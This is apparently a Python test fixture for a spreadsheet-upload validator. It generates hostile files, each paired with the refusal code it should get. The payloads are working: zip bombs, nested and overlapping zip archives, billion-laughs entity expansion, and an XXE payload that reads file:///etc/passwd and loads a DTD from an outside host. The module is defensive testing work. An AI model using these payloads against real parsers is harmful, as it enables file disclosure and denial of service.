"""Files that are made to hurt, or are no lists at all: each with the code under which it is refused."""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import partial
from random import Random

import openpyxl

from registration.rules.codes import ListIs
from tests.registration.imports.answers.returned import book_of, parts, saved, with_parts
from tests.registration.lists import HEADINGS, sheet, worker
from tests.registration.other_kinds import DIMENSIONS, FILEPASS, compound, ods, ods_saying, xls

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET, TEXTS, STYLES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"
PARTS = (SHEET, TEXTS, STYLES, "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "_rels/.rels", "[Content_Types].xml")
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://192.0.2.1/y"> %y;]>'
PROTECTED = struct.pack("<HH", 0x0086, 0)
MILLION = 1_000_000
HUGE = 250_000_000


@dataclass(frozen=True)
class Hostile:
    name: str
    make: object  # what makes its bytes
    code: ListIs


def good():
    return sheet(*(worker(number) for number in range(1, 4)))


def streamed(part, pieces, content=None):
    """The workbook with one part written piece by piece; nothing large is held."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made:
        for name, said in parts(content or good()).items():
            if name != part:
                made.writestr(name, said)
        with made.open(part, "w", force_zip64=True) as writing:
            for piece in pieces:
                writing.write(piece)
    return file.getvalue()


def rows_of_sheet(count, columns, at_once=10_000):
    yield f'<worksheet xmlns="{MAIN}"><sheetData>'.encode()
    for begin in range(1, count + 1, at_once):
        numbers = range(begin, min(begin + at_once, count + 1))
        cells = [f'<c r="{chr(65 + column)}%d"><v>%d</v></c>' for column in range(columns)]
        row = f'<row r="%d">{"".join(cells)}</row>'
        yield "".join(row % ((number,) * (1 + 2 * columns)) for number in numbers).encode()
    yield b"</sheetData></worksheet>"


def bomb():
    return streamed("xl/media/image1.bin", (bytes(1_000_000) for _n in range(4_000)))


def nested(depth=5, width=16):
    """A zip of zips of zips … of a large part: as a workbook it has nothing to open."""
    inside = zipped({"0.dll": bytes(10_000_000)})
    for _level in range(depth):
        inside = zipped({f"{number}.zip": inside for number in range(width)})
    return inside


def zipped(content):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        for name, said in content.items():
            made.writestr(name, said)
    return file.getvalue()


def overlapping(count=250):
    """Many parts in the directory that share one packed kernel of a megabyte: small by every single line of it."""
    packing = zlib.compressobj(9, zlib.DEFLATED, -15)
    text = bytes(1_000_000)
    kernel = packing.compress(text) + packing.flush()
    about = (20, 0, 8, 0, 0, zlib.crc32(text), len(kernel), len(text))
    listed = {"xl/workbook.xml": 0} | {f"xl/p{number}.xml": 0 for number in range(count)}
    body = b"PK\x03\x04" + struct.pack("<5H3I2H", *about, 1, 0) + b"x" + kernel
    directory = b"".join(
        b"PK\x01\x02"
        + struct.pack("<6H3I5H2I", 20, *about[:5], *about[5:], len(name), 0, 0, 0, 0, 0, at)
        + name.encode()
        for name, at in listed.items()
    )
    end = b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, len(listed), len(listed), len(directory), len(body), 0)
    return body + directory + end


def long_directory(count=400_000):
    """Twenty megabytes of directory for one byte."""
    line = b"PK\x01\x02" + struct.pack("<6H3I5H2I", 20, 20, 0, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0, 0, 0)
    directory = b"".join(line + b"%04x" % (number & 0xFFFF) for number in range(count))
    end = b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, count & 0xFFFF, count & 0xFFFF, len(directory), 30, 0)
    return b"PK\x03\x04" + bytes(26) + directory + end


def directory_says(size):
    """A workbook whose directory says another size of its last part than it has."""
    content = with_parts(good(), {"xl/zz.bin": Random(1).randbytes(3_000_000)})
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 24] + struct.pack("<I", size) + content[at + 28 :]


def declaring(part, declared):
    xml = {TEXTS: f'<sst xmlns="{MAIN}"/>'.encode(), **parts(good())}[part].decode()
    at = xml.find("?>") + 2 if xml.startswith("<?xml") else 0
    return with_parts(good(), {part: xml[:at] + declared + xml[at:]})


def declaring_in(encoding):
    xml = f'<?xml version="1.0" encoding="{encoding}"?>{LAUGHS}<worksheet xmlns="{MAIN}"><sheetData/></worksheet>'
    return with_parts(good(), {SHEET: xml.encode(encoding)})


def locked_part():
    content = bytearray(good())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + at] |= 1
    return bytes(content)


def locked_xls(record):
    return xls(["x"], more=record)


def wide(columns):
    book = openpyxl.Workbook()
    for place in range(1, columns + 1):
        book.active.cell(1, place, "x")
    return saved(book)


def repeated(rows=1, columns=1):
    cell = f'<table:table-cell table:number-columns-repeated="{columns}" office:value-type="float" office:value="1"/>'
    return ods_saying(f'<table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>')


def claiming(rows, columns):
    """An .xls that says that its one cell stands in a sheet of this size."""
    content = xls(["x"])
    at = content.index(struct.pack("<HH", DIMENSIONS, 14)) + 4
    return content[:at] + struct.pack("<IIHH", 0, rows, 0, columns) + content[at + 12 :]


def one_cell_of(size):
    rows = f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
    begin = f'<sst xmlns="{MAIN}"><si><t>'.encode()
    text = (b"x%07d" % number * 128 for number in range(size // 1024))
    return streamed(TEXTS, [begin, *text, b"</t></si></sst>"], with_parts(good(), {SHEET: rows}))


def long_text(size):
    return "Họ tên;Ngày sinh\n".encode() + b'"' + b"x" * size + b'"\n'


def macro_streams(content=b"x"):
    return [("_VBA_PROJECT", content), ("dir", content)]


def with_empty_tail():
    """As LibreOffice saves every sheet: what is empty, down to the last row and out to the last column."""
    content = ods(HEADINGS, *(worker(number) for number in range(1, 4)))
    cell = '<table:table-cell table:number-columns-repeated="16384"/>'
    tail = f'<table:table-row table:number-rows-repeated="1048572">{cell}</table:table-row></table:table>'
    return with_parts(content, {"content.xml": parts(content)["content.xml"].decode().replace("</table:table>", tail)})


HARMLESS = [
    Hostile("formatted to the last row", with_empty_tail, None),
    Hostile("zip in a workbook", lambda: with_parts(good(), {"xl/media/a.zip": zipped({"a": b"x" * 9_000})}), None),
    Hostile("directory says more", partial(directory_says, 3_100_000), None),
    Hostile("xls", lambda: xls(HEADINGS, *(worker(number) for number in range(1, 4))), None),
]
FILES = [
    Hostile("empty", lambda: b"", ListIs.NO_ROWS),
    Hostile("blank", lambda: b" \r\n\t\n" * 1000, ListIs.NO_ROWS),
    Hostile("empty sheet", lambda: saved(openpyxl.Workbook()), ListIs.NO_HEADER),
    Hostile("one cell", lambda: saved(book_of(["x"])), ListIs.NO_HEADER),
    Hostile("one cell of text", lambda: b"x", ListIs.NO_HEADER),
    Hostile("one cell of .xls", lambda: xls(["x"]), ListIs.NO_HEADER),
    Hostile("one cell of .ods", lambda: ods(["x"]), ListIs.NO_HEADER),
    Hostile("only headings", sheet, ListIs.NO_ROWS),
    Hostile("only headings of text", lambda: ";".join(HEADINGS).encode(), ListIs.NO_ROWS),
    Hostile("pdf", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 50, ListIs.NOT_A_WORKBOOK),
    Hostile("png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 50, ListIs.NOT_A_WORKBOOK),
    Hostile("program", lambda: b"MZ\x90\x00" + bytes(range(256)) * 50, ListIs.NOT_A_WORKBOOK),
    Hostile(
        "docx", lambda: zipped({"[Content_Types].xml": "<x/>", "word/document.xml": "<x/>"}), ListIs.NOT_A_WORKBOOK
    ),
    Hostile("odt", lambda: zipped({"mimetype": "x", "content.xml": "<office:text/>"}), ListIs.NOT_A_WORKBOOK),
    Hostile("xlsb", lambda: zipped({"xl/workbook.bin": "x"}), ListIs.NOT_A_WORKBOOK),
    Hostile("doc", lambda: compound([("WordDocument", b"x")]), ListIs.NOT_A_WORKBOOK),
    Hostile("web page", lambda: b"\xef\xbb\xbf\r\n<html><table><tr><td>x</td></tr></table>", ListIs.NOT_A_WORKBOOK),
    Hostile("wide web page", lambda: "\ufeff<!DOCTYPE html><table>".encode("utf-16-le"), ListIs.NOT_A_WORKBOOK),
    Hostile("xml of 2003", lambda: b'<?xml version="1.0"?><Workbook/>', ListIs.NOT_A_WORKBOOK),
    Hostile("rtf", lambda: rb"{\rtf1\ansi x}", ListIs.NOT_A_WORKBOOK),
    Hostile("noise", lambda: bytes(range(256)) * 4_000, ListIs.NOT_A_WORKBOOK),
    Hostile("torn in the middle", lambda: good()[: len(good()) // 2], ListIs.NOT_A_WORKBOOK),
    Hostile("torn .xls", lambda: xls(*[["x"] * 9] * 90)[:2_000], ListIs.NOT_A_WORKBOOK),
    Hostile("locked", lambda: compound([("EncryptionInfo", b"x"), ("EncryptedPackage", b"x")]), ListIs.OLD_OR_LOCKED),
    Hostile("locked part", locked_part, ListIs.OLD_OR_LOCKED),
    Hostile("locked .xls", partial(locked_xls, struct.pack("<HHHHHH", FILEPASS, 8, 1, 1, 1, 0)), ListIs.OLD_OR_LOCKED),
    Hostile("locked old .xls", partial(locked_xls, struct.pack("<HHHHH", FILEPASS, 6, 0, 1, 2)), ListIs.OLD_OR_LOCKED),
    Hostile(
        "locked against writing",
        partial(locked_xls, PROTECTED + struct.pack("<HHH", FILEPASS, 2, 1)),
        ListIs.OLD_OR_LOCKED,
    ),
    Hostile("macros", lambda: with_parts(good(), {"xl/vbaProject.bin": "x"}), ListIs.HAS_MACROS),
    Hostile("macros by another path", lambda: with_parts(good(), {"XL\\sub\\vbaPROJECT.bin": "x"}), ListIs.HAS_MACROS),
    Hostile("macros of .xls", lambda: xls(["x"], streams=macro_streams()), ListIs.HAS_MACROS),
    Hostile("macros of .ods", lambda: ods(["x"], **{"Basic__Standard__Module1.xml": "<x/>"}), ListIs.HAS_MACROS),
    Hostile("scripts of .ods", lambda: ods(["x"], **{"Scripts__python__x.py": "x"}), ListIs.HAS_MACROS),
    Hostile("bomb", bomb, ListIs.UNPACKS_TOO_LARGE),
    Hostile("zips in zips", nested, ListIs.NOT_A_WORKBOOK),
    Hostile("parts over each other", overlapping, ListIs.UNPACKS_TOO_LARGE),
    Hostile("long directory", long_directory, ListIs.UNPACKS_TOO_LARGE),
    Hostile(
        "many parts", lambda: with_parts(good(), {f"xl/{n}.xml": "" for n in range(2_100)}), ListIs.UNPACKS_TOO_LARGE
    ),
    Hostile("directory says less", partial(directory_says, 10), ListIs.NOT_A_WORKBOOK),
    Hostile("directory says nothing", partial(directory_says, 0), ListIs.NOT_A_WORKBOOK),
    Hostile("million rows", lambda: streamed(SHEET, rows_of_sheet(MILLION, 1)), ListIs.TOO_MANY_ROWS),
    Hostile("million rows, four columns", lambda: streamed(SHEET, rows_of_sheet(MILLION, 4)), ListIs.TOO_MANY_ROWS),
    Hostile("million rows, nine columns", lambda: streamed(SHEET, rows_of_sheet(MILLION, 9)), ListIs.TOO_LARGE),
    Hostile("million rows of text", lambda: b"An;01/02/1990;x\n" * MILLION, ListIs.TOO_MANY_ROWS),
    Hostile("million empty lines", lambda: b"x\n" + b"\n" * (10 * MILLION) + b"x", ListIs.TOO_MANY_ROWS),
    Hostile("million rows of .ods", partial(repeated, rows=MILLION), ListIs.TOO_MANY_ROWS),
    Hostile("million rows of full width", partial(repeated, rows=MILLION, columns=16_384), ListIs.NOT_A_WORKBOOK),
    Hostile("more rows than numbers", partial(repeated, rows=2**63), ListIs.TOO_MANY_ROWS),
    Hostile("65,000 rows of .xls", lambda: xls(*[["x"]] * 65_000), ListIs.TOO_MANY_ROWS),
    Hostile("claims of .xls", partial(claiming, 2**31, 2**15), ListIs.UNPACKS_TOO_LARGE),
    Hostile("16,384 columns", partial(wide, 16_384), ListIs.UNPACKS_TOO_LARGE),
    Hostile("16,384 columns of .ods", partial(repeated, columns=16_384), ListIs.UNPACKS_TOO_LARGE),
    Hostile("16,384 columns of text", lambda: b";".join([b"x"] * 16_384), ListIs.NO_HEADER),
    Hostile("one cell of 250 MB", partial(one_cell_of, HUGE), ListIs.NOT_A_WORKBOOK),
    Hostile("one cell of 15 MB of text", partial(long_text, 15_000_000), ListIs.NOT_A_WORKBOOK),
    Hostile("20 MB and one byte", lambda: b"x" * (20 * 1024**2 + 1), ListIs.TOO_LARGE),
    *(
        Hostile(f"{kind} in {part}", partial(declaring, part, declared), ListIs.NOT_A_WORKBOOK)
        for part in PARTS
        for kind, declared in (("laughs", LAUGHS), ("outside", OUTSIDE))
    ),
    *(
        Hostile(f"laughs in {form}", partial(declaring_in, form), ListIs.NOT_A_WORKBOOK)
        for form in ("utf-16", "utf-16-be")
    ),
    *(
        Hostile(f"{kind} in .ods", partial(ods_saying, "", before=declared), ListIs.NOT_A_WORKBOOK)
        for kind, declared in (("laughs", LAUGHS), ("outside", OUTSIDE))
    ),
]
